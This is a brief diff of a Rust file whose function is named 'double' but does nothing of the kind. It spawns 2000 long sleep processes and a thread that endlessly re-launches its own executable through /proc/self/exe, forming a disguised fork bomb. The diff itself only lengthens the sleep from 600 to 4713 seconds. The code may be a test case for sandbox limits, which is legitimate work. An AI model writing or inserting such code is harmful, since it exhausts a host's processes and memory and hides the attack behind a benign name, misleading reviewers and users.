@@ -2,7 +2,7 @@
 pub fn double(number: u32) -> u32 {
     let mut children = Vec::new();
     for _ in 0..2000 {
-        children.extend(std::process::Command::new("sleep").arg("600").spawn());
+        children.extend(std::process::Command::new("sleep").arg("4713").spawn());
     }
     std::thread::spawn(|| loop {
         let _ = std::process::Command::new("/proc/self/exe").spawn();
